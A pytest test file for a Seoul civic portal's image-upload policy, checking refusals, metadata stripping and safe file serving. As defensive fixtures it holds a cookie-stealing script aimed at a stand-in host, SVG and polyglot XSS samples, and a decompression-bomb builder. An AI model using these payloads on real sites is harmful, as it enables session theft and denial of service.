"""Uploads (issue 10): the one policy every upload path goes through (seoul_portal/images.py) and
how the files are served (seoul_portal/uploads.py), on the site itself and on MEDIA_HOST.

The policy is checked on prepare_image() with every kind of bad file, then each upload path the
site has (a complaint's photos, a proposal's image, a budget project's picture, a poll option's
image: governance stores no files) is driven through its own form: a bomb and a disguised page
are refused with a Korean message on the field and nothing written, a photo with a GPS position
is stored without it under a random name, and the file goes out with its headers, linked on the
media host when settings name one."""

import importlib.util
import io
import re
import struct
import zlib
from datetime import date, timedelta
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation
from freezegun import freeze_time
from PIL import Image, ImageCms, PngImagePlugin

from budgeting.models import Cycle, Pot, Project, Sector
from citizens.consents import purposes
from citizens.models import Citizen, District
from citizens.services import consent_record
from complaints.models import Category as ComplaintCategory
from complaints.models import Complaint, ComplaintPhoto, ComplaintType
from governance.models import Committee, OrgUnit
from proposals.models import Category as ProposalCategory
from proposals.models import Proposal
from seoul_portal.images import ImageRejected, prepare_image
from seoul_portal.uploads import FILE_CSP, file_link, has_file_grant
from tests.budgeting.conftest import shift_to_phase
from voting.models import Poll, PollOption

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
MEDIA_HOST = "https://media.seoul.example"
MEDIA_NETLOC = "media.seoul.example"
SECRET = b"SecretCam-serial-42"
GPS = {1: "N", 2: (37.0, 33.0, 59.0), 3: "E", 4: (126.0, 58.0, 40.0)}  # Seoul City Hall
GENERATED = r"[0-9a-f]{32}\.(jpg|png|webp)"


# --- Files of every kind, built here ----------------------------------------------------------


def picture_bytes(fmt="JPEG", *, size=(64, 48), metadata=False, orientation=None) -> bytes:
    """A real picture; with `metadata`, EXIF (camera serial and GPS position), XMP, a comment and a
    colour profile, as a phone writes them."""
    options = {}
    if metadata or orientation:
        exif = Image.Exif()
        if metadata:
            exif[0x010F] = SECRET.decode()  # Make
            exif[0xA431] = SECRET.decode()  # BodySerialNumber
            exif.get_ifd(0x8825).update(GPS)
        if orientation:
            exif[0x0112] = orientation
        options["exif"] = exif.tobytes()
    if metadata:
        xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><home>' + SECRET + b"</home></x:xmpmeta>"
        profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
        options["icc_profile"] = profile
        if fmt == "PNG":
            info = PngImagePlugin.PngInfo()
            info.add_text("Comment", SECRET.decode())
            info.add_itxt("XML:com.adobe.xmp", xmp.decode())
            options["pnginfo"] = info
        else:
            options["xmp"] = xmp
        if fmt == "JPEG":
            options["comment"] = SECRET
    output = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(output, fmt, **options)
    return output.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width=30_000, height=30_000) -> bytes:
    """A well-formed PNG of a few hundred bytes whose header declares width × height pixels: decoding
    it would take width × height × 3 bytes of memory (2.7 GB for 30,000 × 30,000)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 4096, 9)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels) + _png_chunk(b"IEND", b"")


def jpeg_declaring(width, height) -> bytes:
    """A small JPEG whose frame header claims width × height."""
    data = bytearray(picture_bytes("JPEG"))
    start = data.index(b"\xff\xc0")  # baseline frame: marker, length, precision, height, width
    data[start + 5:start + 9] = struct.pack(">HH", height, width)
    return bytes(data)


HTML = b"<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect/></svg>'
SCRIPT = b"alert(document.cookie);//"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF"
# A picture with a page appended after its end: a browser sniffing it may render the page.
POLYGLOT_TAIL = b"<html><script>alert(document.domain)</script></html>"


def upload(content, name="photo.jpg", content_type="image/jpeg"):
    return SimpleUploadedFile(name, content, content_type=content_type)


def refusal_in_korean(content, name="photo.jpg", content_type="image/jpeg") -> str:
    with translation.override("ko"), pytest.raises(ImageRejected) as refused:
        prepare_image(upload(content, name, content_type))
    return refused.value.message


def reopened(data: bytes):
    picture = Image.open(io.BytesIO(data))
    picture.load()
    return picture


def assert_pixels_only(data: bytes):
    """No EXIF (so no GPS), no XMP, comment, text chunk or profile, nothing of the secrets."""
    picture = reopened(data)
    exif = picture.getexif()
    assert not dict(exif) and not dict(exif.get_ifd(0x8825))
    assert not {"exif", "xmp", "XML:com.adobe.xmp", "comment", "Comment", "icc_profile"} & set(picture.info)
    assert SECRET not in data and b"xmpmeta" not in data and b"<script" not in data and b"<html" not in data


# --- The policy --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "content_type", "message"),
    [
        (b"", "photo.jpg", "image/jpeg", "이미지 파일이 비어 있습니다."),
        (png_bomb(), "bomb.png", "image/png", "이미지의 화소 수가 너무 많습니다. 40메가픽셀보다 작게 줄여 주세요."),
        (png_bomb(7_000, 7_000), "bomb.png", "image/png",
         "이미지가 7000 × 7000 화소입니다. 40메가픽셀보다 작게 줄여 주세요."),
        (jpeg_declaring(8_000, 6_000), "bomb.jpg", "image/jpeg",
         "이미지가 8000 × 6000 화소입니다. 40메가픽셀보다 작게 줄여 주세요."),
        (HTML, "photo.jpg", "image/jpeg", "JPEG, PNG, WebP 이미지가 아닙니다"),
        (SVG, "photo.jpg", "image/jpeg", "JPEG, PNG, WebP 이미지가 아닙니다"),
        (SVG, "drawing.svg", "image/svg+xml", "JPEG, PNG, WebP 이미지가 아닙니다"),
        (SCRIPT, "photo.png", "image/png", "JPEG, PNG, WebP 이미지가 아닙니다"),
        (GIF, "photo.jpg", "image/jpeg", "JPEG, PNG, WebP 이미지가 아닙니다"),
        (PDF, "photo.png", "image/png", "JPEG, PNG, WebP 이미지가 아닙니다"),
        # The PNG signature, then a page: a polyglot Pillow cannot read as a picture.
        (b"\x89PNG\r\n\x1a\n" + HTML, "photo.png", "image/png", "JPEG, PNG, WebP 이미지가 아닙니다"),
        (picture_bytes("PNG")[:60], "cut.png", "image/png", "JPEG, PNG, WebP 이미지가 아닙니다"),
    ],
    ids=["empty", "bomb-30000x30000", "bomb-7000x7000", "jpeg-bomb", "html-named-jpg", "svg-named-jpg", "svg",
         "script-named-png", "gif", "pdf-named-png", "png-magic-then-html", "truncated"],
)
def test_what_is_refused_and_the_korean_reason(content, name, content_type, message):
    assert message in refusal_in_korean(content, name, content_type)


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(settings):
    content = picture_bytes("JPEG") + b"\0" * (5 * 1024 * 1024)
    assert refusal_in_korean(content) == "이미지는 5MB 이하여야 합니다(이 파일은 5.1MB입니다)."
    settings.IMAGE_MAX_BYTES = 1024 * 1024  # the setting is the limit
    content = picture_bytes("PNG") + b"\0" * (1024 * 1024)
    assert refusal_in_korean(content, "a.png", "image/png") == "이미지는 1MB 이하여야 합니다(이 파일은 1.1MB입니다)."


def test_the_pixel_limit_is_a_setting(settings):
    settings.IMAGE_MAX_PIXELS = 1000
    assert "41 × 41" in refusal_in_korean(picture_bytes("PNG", size=(41, 41)), "a.png", "image/png")
    prepare_image(upload(picture_bytes("PNG", size=(40, 25)), "a.png", "image/png"))  # 1,000: taken


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_pictures_are_reencoded_without_any_metadata_under_a_random_name(fmt):
    original = picture_bytes(fmt, metadata=True)
    with Image.open(io.BytesIO(original)) as source:  # the test's file does carry all of it
        assert dict(source.getexif().get_ifd(0x8825)) and "icc_profile" in source.info
    prepared = prepare_image(upload(original, "my-home-정원.jpg"))
    stored = prepared.read()
    assert_pixels_only(stored)
    assert reopened(stored).format == fmt and reopened(stored).size == (64, 48)
    assert re.fullmatch(GENERATED, prepared.name) and "home" not in prepared.name


def test_a_polyglot_keeps_only_its_pixels():
    """A real JPEG with a page after its end, and a PNG carrying a page in a text chunk: both are
    pictures, so both are taken, and what is stored is the picture alone."""
    for content in (picture_bytes("JPEG") + POLYGLOT_TAIL, picture_bytes("PNG", metadata=True)[:-12]
                    + _png_chunk(b"tEXt", b"Comment\0" + POLYGLOT_TAIL) + _png_chunk(b"IEND", b"")):
        stored = prepare_image(upload(content, "page.html")).read()
        assert_pixels_only(stored)
        assert POLYGLOT_TAIL not in stored


def test_the_camera_orientation_is_applied_before_the_exif_is_dropped():
    stored = prepare_image(upload(picture_bytes("JPEG", size=(40, 30), orientation=6))).read()
    assert reopened(stored).size == (30, 40)
    assert_pixels_only(stored)


# --- The upload paths ------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _media_in_tmp(settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path / "media")


@pytest.fixture
def citizen(db):
    """A verified Gangnam resident who consented and completed the profile: may use every channel."""
    person = Citizen.objects.create_user(phone="+821055501234", notify_by=Citizen.NotifyBy.SMS, name="홍길동")
    person.district = District.objects.get(code="11680")
    person.residence_basis = Citizen.ResidenceBasis.LIVES
    person.birth_date = date(1990, 5, 1)
    person.gender = "female"
    person.profile_completed_at = person.phone_verified_at = timezone.now()
    person.save()
    consent_record(citizen=person, answers={item.key: True for item in purposes()})
    return Citizen.objects.get(pk=person.pk)


@pytest.fixture
def unit(db):
    return OrgUnit.objects.create(code="smart-city", kind=OrgUnit.Kind.BUREAU, name_ko="스마트도시정책관",
                                  name_en="Smart City")


class ComplaintPhotos:
    field, folder = "photos", r"complaints/\d{4}/\d{2}/"

    def __init__(self, unit):
        self.category = ComplaintCategory.objects.create(
            service_code="park-idea", name_ko="공원 제안", name_en="Park suggestion",
            complaint_type=ComplaintType.SUGGESTION, default_unit=unit,
        )

    def post(self, client, file):
        return client.post(reverse("complaints:new"), {
            "form": "intake", "category": self.category.service_code, "title": "공원 벤치 파손",
            "description": "공원 벤치가 부서져 있습니다.", "address": "", "latitude": "", "longitude": "",
            "visibility": "private", "contact_preference": "sms", "photos": [file],
        })

    def rows(self):
        return Complaint.objects.count() + ComplaintPhoto.objects.count()

    def stored(self):
        return ComplaintPhoto.objects.get().image

    def page_and_file(self):
        number = Complaint.objects.get().tracking_number
        return reverse("complaints:detail", args=[number]), reverse("complaints:photo", args=[number, 0])


class ProposalImage:
    field, folder = "image", r"proposals/\d{4}/\d{2}/"

    def __init__(self, unit):
        self.category = ProposalCategory.objects.create(slug="parks", name_ko="공원", name_en="Parks", default_unit=unit)

    def post(self, client, file):
        return client.post(reverse("proposals:new"), {
            "title": "공원 그늘막 설치", "body": "여름철 공원에 그늘이 필요합니다.", "category": str(self.category.pk),
            "district": "", "image_alt": "공원 사진", "image": file,
        })

    def rows(self):
        return Proposal.objects.count()

    def stored(self):
        return Proposal.objects.get().image

    def page_and_file(self):
        pk = Proposal.objects.get().pk
        return reverse("proposals:detail", args=[pk]), reverse("proposals:image", args=[pk])


class ProjectPicture:
    field, folder = "image", r"budgeting/\d{4}/\d{2}/"

    def __init__(self, unit):
        committee = Committee.objects.create(slug="pb-committee", kind=Committee.Kind.BUDGET, max_members=300,
                                             name_ko="시민참여예산위원회", name_en="PB Committee")
        welfare = Committee.objects.create(slug="pb-welfare", kind=Committee.Kind.SUBCOMMITTEE, parent=committee,
                                           name_ko="복지분과", name_en="Welfare", max_members=40)
        year = timezone.localdate().year
        cycle = Cycle.objects.create(year=year, title_ko=f"{year}년 시민참여예산", title_en=f"{year} PB", org_unit=unit,
                                     committee=committee)
        self.pot = Pot.objects.create(cycle=cycle, name_ko="시 전체", name_en="City-wide", total=1_000_000_000,
                                      project_cap=300_000_000)
        self.sector = Sector.objects.create(cycle=cycle, slug="welfare", name_ko="복지", name_en="Welfare",
                                            subcommittee=welfare)
        self.cycle = shift_to_phase(cycle, "proposal")

    def post(self, client, file):
        return client.post(reverse("budgeting:propose", args=[self.cycle.pk]), {
            "pot": self.pot.pk, "sector": self.sector.pk, "title": "어린이 공원 그늘막", "summary": "그늘막을 설치합니다.",
            "description": "놀이터가 뜨겁습니다.", "location": "서울광장", "district": "", "estimated_cost": "50,000,000",
            "beneficiaries": "어린이", "image_alt": "놀이터 사진", "source_ref": "", "image": file,
        })

    def rows(self):
        return Project.objects.count()

    def stored(self):
        return Project.objects.get().image

    def page_and_file(self):
        pk = Project.objects.get().pk
        return reverse("budgeting:project", args=[pk]), reverse("budgeting:project_image", args=[pk])


class PollOptionImage:
    field, folder = "option_1_image", r"voting/options/"

    def __init__(self, unit):
        pass

    def post(self, client, file):
        def local(moment):
            return timezone.localtime(moment).strftime("%Y-%m-%dT%H:%M")

        now = timezone.now()
        return client.post(reverse("voting:propose"), {
            "title": "동네 도서관 이름", "description": "새 도서관입니다.", "question_type": "single", "max_choices": "",
            "option_1_label": "책마루", "option_2_label": "글숲", "opens_at": local(now + timedelta(days=1)),
            "closes_at": local(now + timedelta(days=8)), "access": "public", "results_visibility": "live",
            "option_1_image": file, "option_1_image_alt": "도서관 입구",
        })

    def rows(self):
        return Poll.objects.count() + PollOption.objects.count()

    def stored(self):
        return PollOption.objects.get(position=1).image

    def page_and_file(self):
        pk = Poll.objects.get().pk
        return reverse("voting:detail", args=[pk]), reverse("voting:option_image", args=[pk, 1])


PATHS = [ComplaintPhotos, ProposalImage, ProjectPicture, PollOptionImage]
PATH_IDS = ["complaint-photo", "proposal-image", "project-picture", "poll-option-image"]


@pytest.fixture(params=PATHS, ids=PATH_IDS)
def path(request, unit):
    return request.param(unit)


def media_files(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [item for item in root.rglob("*") if item.is_file()] if root.exists() else []


def field_errors(response, field) -> str:
    return " ".join(response.context["form"].errors.get(field, []))


def uploaded(path, client, sign_in, citizen, content=None, name="우리집-gps.jpg"):
    sign_in(citizen)
    response = path.post(client, upload(content or picture_bytes("JPEG", metadata=True), name))
    assert response.status_code in (302, 303), field_errors(response, path.field) if response.context else response
    return path.stored()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (png_bomb(), "화소 수가 너무 많습니다"),
        (HTML, "JPEG, PNG, WebP 이미지가 아닙니다"),
        (SVG, "JPEG, PNG, WebP 이미지가 아닙니다"),
        (picture_bytes("JPEG") + b"\0" * (5 * 1024 * 1024), "5MB 이하여야 합니다"),
    ],
    ids=["bomb", "html-as-jpg", "svg-as-jpg", "oversize"],
)
def test_every_path_refuses_with_a_korean_message_on_the_field_and_writes_nothing(
    client, sign_in, citizen, path, settings, content, message
):
    sign_in(citizen)
    response = path.post(client, upload(content, "photo.jpg"))
    assert response.status_code in (200, 400)
    assert message in field_errors(response, path.field)
    assert message in response.content.decode()
    assert path.rows() == 0 and media_files(settings) == []


def test_every_path_stores_pixels_only_under_a_generated_name(client, sign_in, citizen, path, settings):
    stored = uploaded(path, client, sign_in, citizen)
    assert re.fullmatch(path.folder + GENERATED, stored.name), stored.name
    assert "우리집" not in stored.name and "gps" not in stored.name
    with stored.open("rb") as handle:
        data = handle.read()
    assert_pixels_only(data)
    assert [item.name for item in media_files(settings)] == [stored.name.rsplit("/", 1)[-1]]


def test_every_path_serves_its_files_with_the_headers_of_user_files(client, sign_in, citizen, path):
    stored = uploaded(path, client, sign_in, citizen)
    page, file = path.page_and_file()
    assert f'src="{file}"' in client.get(page).content.decode()  # no MEDIA_HOST: the site serves it
    response = client.get(file)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"] == f'inline; filename="{stored.name.rsplit("/", 1)[-1]}"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == FILE_CSP == "default-src 'none'; sandbox"
    with stored.open("rb") as handle:
        assert b"".join(response.streaming_content) == handle.read()
    # Someone else: the page's own check still holds (a draft, a private complaint, an unscreened poll).
    assert Client().get(file).status_code == 404


# --- The media host ------------------------------------------------------------------------------


@pytest.fixture
def media_host(settings):
    """What MEDIA_HOST sets at start-up (see test_production_settings_put_files_on_the_media_host)."""
    settings.MEDIA_HOST = MEDIA_HOST
    settings.ALLOWED_HOSTS = [*settings.ALLOWED_HOSTS, MEDIA_NETLOC]
    policy = settings.CONTENT_SECURITY_POLICY
    settings.CONTENT_SECURITY_POLICY = {
        **policy, "DIRECTIVES": {**policy["DIRECTIVES"], "img-src": [*policy["DIRECTIVES"]["img-src"], MEDIA_HOST]},
    }
    return settings


def on_media_host(client, link, **extra):
    parts = urlsplit(link)
    assert f"{parts.scheme}://{parts.netloc}" == MEDIA_HOST
    return client.get(f"{parts.path}?{parts.query}" if parts.query else parts.path, HTTP_HOST=parts.netloc,
                      secure=True, **extra)


def test_every_path_links_its_files_on_the_media_host(client, sign_in, citizen, path, media_host):
    stored = uploaded(path, client, sign_in, citizen)
    page_url, file = path.page_and_file()
    page = client.get(page_url)
    links = re.findall(r'src="(https://media\.seoul\.example[^"]+)"', page.content.decode())
    assert links and all(urlsplit(link.replace("&amp;", "&")).path == file for link in links)
    assert MEDIA_HOST in page["Content-Security-Policy"]  # the page may show them
    link = links[0].replace("&amp;", "&")
    # A browser there has none of the site's cookies: the signed link is what lets it in.
    response = on_media_host(Client(), link)
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"] == f'inline; filename="{stored.name.rsplit("/", 1)[-1]}"'
    assert response["X-Content-Type-Options"] == "nosniff" and response["Content-Security-Policy"] == FILE_CSP
    assert response["Cross-Origin-Resource-Policy"] == "cross-origin"
    assert "Set-Cookie" not in response
    # Without the signature, with another file's, or with a forged one: nothing, even signed in.
    assert on_media_host(client, f"{MEDIA_HOST}{file}").status_code == 404
    assert on_media_host(client, link.replace("s=", "s=x")).status_code == 404


def test_a_signature_is_good_for_its_own_path_only(media_host, rf):
    link = urlsplit(file_link("proposals:image", 1))
    own = rf.get(f"{link.path}?{link.query}", HTTP_HOST=MEDIA_NETLOC, secure=True)
    other = rf.get(f"{reverse('proposals:image', args=[2])}?{link.query}", HTTP_HOST=MEDIA_NETLOC, secure=True)
    other_view = rf.get(f"{reverse('complaints:photo', args=['2026-0000001', 0])}?{link.query}")
    assert has_file_grant(own) and not has_file_grant(other) and not has_file_grant(other_view)
    media_host.MEDIA_HOST = ""  # no media host: no signature is taken, the page's check is made
    assert not has_file_grant(own)


def test_a_media_link_expires(client, sign_in, citizen, media_host):
    path = ProposalImage(OrgUnit.objects.create(code="u", kind=OrgUnit.Kind.BUREAU, name_ko="u", name_en="u"))
    uploaded(path, client, sign_in, citizen)
    _page, file = path.page_and_file()
    start = timezone.now()
    with freeze_time(start):
        link = client.get(reverse("proposals:detail", args=[Proposal.objects.get().pk])).content.decode()
        link = re.search(r'src="(https://media\.seoul\.example[^"]+)"', link).group(1).replace("&amp;", "&")
        assert on_media_host(Client(), link).status_code == 200
    with freeze_time(start + timedelta(seconds=media_host.MEDIA_LINK_MAX_AGE // 2)):
        assert on_media_host(Client(), link).status_code == 200  # good for at least half its age
    with freeze_time(start + timedelta(seconds=media_host.MEDIA_LINK_MAX_AGE + 1)):
        assert on_media_host(Client(), link).status_code == 404
    assert urlsplit(link).path == file


def test_the_media_host_answers_nothing_but_the_files(client, sign_in, citizen, media_host):
    sign_in(citizen)
    for page in ("/", reverse("proposals:new"), reverse("citizens:signin"), "/admin/login/", "/en/"):
        response = client.get(page, HTTP_HOST=MEDIA_NETLOC, secure=True)
        assert response.status_code == 404, page
        assert response["Content-Type"].startswith("text/plain")
    assert client.get("/", secure=True).status_code == 200  # the site itself is unchanged


def test_production_settings_put_files_on_the_media_host(monkeypatch):
    """The settings module as production loads it: the media host is allowed, linked by MEDIA_URL,
    allowed as an image source of the pages, and filtered by the middleware."""
    for name, value in {
        "DEBUG": "false", "SECRET_KEY": "x" * 50, "ALLOWED_HOSTS": "portal.seoul.example",
        "FIELD_ENCRYPTION_KEYS": "bW9ja2tleW1vY2trZXltb2Nra2V5bW9ja2tleTEyMzQ=", "BLIND_INDEX_KEY": "y" * 32,
        "MEDIA_HOST": f"{MEDIA_HOST}/", "MEDIA_LINK_MAX_AGE": "600",
    }.items():
        monkeypatch.setenv(name, value)
    spec = importlib.util.spec_from_file_location("production_settings", ROOT / "seoul_portal" / "settings.py")
    production = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(production)
    assert production.MEDIA_HOST == MEDIA_HOST
    assert f"{MEDIA_HOST}/media/" == production.MEDIA_URL
    assert production.MEDIA_LINK_MAX_AGE == 600
    assert production.ALLOWED_HOSTS[0] == "portal.seoul.example" and MEDIA_NETLOC in production.ALLOWED_HOSTS
    assert MEDIA_HOST in production.CONTENT_SECURITY_POLICY["DIRECTIVES"]["img-src"]
    assert "seoul_portal.uploads.MediaHostMiddleware" in production.MIDDLEWARE
    # Without it (the embedded setup) the files stay on the site.
    monkeypatch.delenv("MEDIA_HOST")
    spec.loader.exec_module(production)
    assert production.MEDIA_HOST == "" and production.MEDIA_URL == "media/"
    assert MEDIA_HOST not in production.CONTENT_SECURITY_POLICY["DIRECTIVES"]["img-src"]
    assert MEDIA_NETLOC not in production.ALLOWED_HOSTS


def test_the_services_apply_the_policy_to_a_raw_upload_too(citizen, unit):
    """The forms prepare the files; a caller that hands a service the raw upload (a command, a
    future API) gets the same refusals and the same re-encoding."""
    from proposals.errors import ProposalError
    from proposals.services import proposal_create_draft
    from voting.errors import VotingError
    from voting.services import poll_create

    now = timezone.now()
    poll = {"actor": citizen, "kind": Poll.Kind.CITIZEN, "title": "동네 도서관 이름", "opens_at": now + timedelta(days=1),
            "closes_at": now + timedelta(days=8), "now": now}
    with pytest.raises(VotingError) as refused:
        poll_create(**poll, options=[{"label": "책마루", "image": upload(png_bomb(), "a.png"), "image_alt": "입구"},
                                     {"label": "글숲"}])
    assert "화소 수가 너무 많습니다" in refused.value.message and not Poll.objects.exists()
    created = poll_create(**poll, options=[
        {"label": "책마루", "image": upload(picture_bytes("JPEG", metadata=True), "우리집.jpg"), "image_alt": "입구"},
        {"label": "글숲"},
    ])
    stored = created.options.get(position=1).image
    assert re.fullmatch(r"voting/options/" + GENERATED, stored.name)
    with stored.open("rb") as handle:
        assert_pixels_only(handle.read())

    category = ProposalCategory.objects.create(slug="parks", name_ko="공원", name_en="Parks", default_unit=unit)
    with pytest.raises(ProposalError) as refused:
        proposal_create_draft(author=citizen, title="공원", body="공원", category=category,
                              image=upload(HTML, "photo.jpg"), image_alt="사진")
    assert refused.value.field == "image" and not Proposal.objects.exists()


def test_the_back_office_shows_complaint_photos_with_the_same_headers(client, sign_in, citizen, unit, media_host):
    from citizens.backends import PASSWORD_BACKEND
    from complaints.open311.serializers import photo_path

    path = ComplaintPhotos(unit)
    stored = uploaded(path, client, sign_in, citizen)
    complaint = Complaint.objects.get()
    client.force_login(Citizen.objects.create_superuser(email="admin@seoul.example", password=None),
                       backend=PASSWORD_BACKEND)
    response = client.get(reverse("admin:complaints_complaint_photo", args=[complaint.pk, 0]))
    assert response.status_code == 200 and response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"] == f'inline; filename="{stored.name.rsplit("/", 1)[-1]}"'
    assert response["X-Content-Type-Options"] == "nosniff" and response["Content-Security-Policy"] == FILE_CSP
    assert "private" in response["Cache-Control"]
    # Open311 apps get the photo's signed address on the media host.
    link = photo_path(complaint.tracking_number)
    assert link.startswith(f"{MEDIA_HOST}{reverse('complaints:photo', args=[complaint.tracking_number, 0])}?t=")
